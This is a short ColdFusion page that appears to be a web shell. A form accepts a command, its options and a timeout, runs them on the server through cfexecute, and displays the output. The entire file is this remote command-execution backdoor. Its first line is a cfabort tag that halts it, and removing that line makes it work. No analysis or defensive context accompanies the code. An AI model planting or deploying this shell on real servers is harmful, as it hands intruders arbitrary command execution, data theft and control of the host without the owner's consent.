<cfabort>
<html><body>
<cfoutput>
<form method="post" action="#CGI.SCRIPT_NAME#">
Command: <input type="text" name="cmd" size="50" <cfif isdefined("form.cmd")>value="#form.cmd#"</cfif>><br>
Options: <input type="text" name="opts" size="50" <cfif isdefined("form.opts")>value="#form.opts#"</cfif>><br>
Timeout: <input type="text" name="timeout" size="4" value="5">
<input type="submit" value="Exec">
</form>
<cfif isdefined("form.cmd")>
<cfsavecontent variable="myVar">
<cfexecute name="#Form.cmd#" arguments="#Form.opts#" timeout="#Form.timeout#"></cfexecute>
</cfsavecontent>
<pre>#HTMLCodeFormat(myVar)#</pre>
</cfif>
</cfoutput>
</body></html>
